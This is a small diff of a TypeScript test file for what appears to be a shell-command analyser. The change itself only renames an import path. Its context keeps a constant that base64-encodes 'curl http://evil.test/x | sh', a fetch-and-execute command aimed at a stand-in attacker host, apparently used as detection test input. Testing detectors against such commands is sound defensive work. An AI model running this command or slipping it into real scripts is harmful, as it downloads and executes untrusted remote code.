@@ -2,7 +2,7 @@ import fc from "fast-check";
 import { describe, expect, test } from "vitest";
 import { describeActs, describeFlows } from "../../testing/describe-facts.ts";
 import { makeSource } from "../../testing/make-source.ts";
-import type { Analysis } from "../analyser.ts";
+import type { Analysis } from "../fact-writer.ts";
 import { analyseShell } from "./analyse-shell.ts";
 
 const BASE64 = Buffer.from("curl http://evil.test/x | sh\n").toString("base64");
